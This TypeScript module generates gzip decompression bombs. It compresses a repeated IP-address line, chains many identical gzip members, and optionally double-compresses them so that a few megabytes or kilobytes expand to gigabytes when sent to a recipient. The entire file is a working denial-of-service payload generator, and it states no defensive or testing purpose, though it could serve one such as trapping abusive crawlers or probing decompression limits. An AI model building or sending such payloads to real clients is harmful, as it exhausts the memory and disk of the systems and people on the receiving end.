import { gzipSync } from 'node:zlib';

/** A short list that repeats itself, which deflate packs at nearly its limit of 1 : 1032. */
const LINES = Buffer.alloc(64 * 1024 ** 2, '198.51.100.27\n');

export interface Bomb {
  readonly packed: Buffer;
  /** Bytes that it would unpack to. */
  readonly unpacked: number;
  /** As it is sent: packed for the way, or a gzip file that is packed for the way once more. */
  readonly twice: boolean;
}

/** A few MB that unpack to gigabytes, or, packed `twice`, a few hundred KB to tens of them. */
export function bomb(gigabytes: number, twice: boolean): Bomb {
  const times = Math.ceil((gigabytes * 1024 ** 3) / LINES.length);
  const member = gzipSync(LINES, { level: 9 });
  // a gzip file may be several in a row
  const packed = Buffer.concat(Array.from({ length: times }, () => member));
  return { packed: twice ? gzipSync(packed, { level: 9 }) : packed, unpacked: times * LINES.length, twice };
}
